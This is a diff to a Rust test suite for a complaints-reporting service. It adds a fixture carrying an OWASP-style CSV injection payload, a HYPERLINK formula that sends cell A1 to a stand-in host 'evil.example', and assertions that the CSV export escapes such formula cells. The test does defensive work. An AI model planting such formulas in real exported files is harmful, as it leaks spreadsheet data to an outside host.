@@ -186,8 +186,10 @@ async fn data_set(app: &TestApp) -> String {
         .post(
             "/api/v1/learning-actions",
             &manager,
-            &json!({"learned": "Crews miss assisted bins", "change_agreed": "Show them in the cab",
-                    "service": "waste-care", "owner": "Ops manager", "due": "2026-10-31", "cases": [a]}),
+            // A formula where a spreadsheet would run it (OWASP's CSV injection).
+            &json!({"learned": "Crews miss assisted bins",
+                    "change_agreed": "=HYPERLINK(\"evil.example/?leak=\"&A1,\"Open\")",
+                    "service": "waste-care", "owner": "-Ops manager", "due": "2026-10-31", "cases": [a]}),
         )
         .await;
     assert_eq!(late.status, 201, "{}", late.text());
@@ -631,6 +633,14 @@ async fn the_annual_report_is_data_csv_and_a_self_contained_page_with_no_persona
         }
     }
     assert!(text.contains("table,measure,value\r\nheadline,complaints received,4\r\n"));
+    // Cells that a spreadsheet would read as a formula start with a quote mark; numbers,
+    // negative ones included, stay numbers.
+    assert!(
+        text.contains("\"'=HYPERLINK(\"\"evil.example/?leak=\"\"&A1,\"\"Open\"\")\""),
+        "{text}"
+    );
+    assert!(!text.contains(",=HYPERLINK"), "{text}");
+    assert!(!text.contains(",\"=HYPERLINK"), "{text}");
     let published_csv = get("text/csv", "year=2026&suppress_below=5").await.text();
     assert!(published_csv.contains("headline,complaints received,<5\r\n"));
 
